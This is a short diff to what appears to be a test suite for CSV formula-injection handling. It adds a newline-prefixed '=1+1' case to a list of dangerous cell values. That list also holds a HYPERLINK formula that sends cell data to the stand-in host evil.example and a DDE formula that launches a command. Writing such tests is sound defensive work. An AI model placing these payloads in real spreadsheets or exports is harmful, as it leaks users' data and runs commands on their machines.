@@ -70,6 +70,7 @@ describe('a CSV document', () => {
       '@SUM(A1)',
       '\t=1+1',
       '\r=1+1',
+      '\n=1+1',
       '=HYPERLINK("https://evil.example?"&A1,"x")',
       "=cmd|' /C calc'!A0",
       '＝1+1',
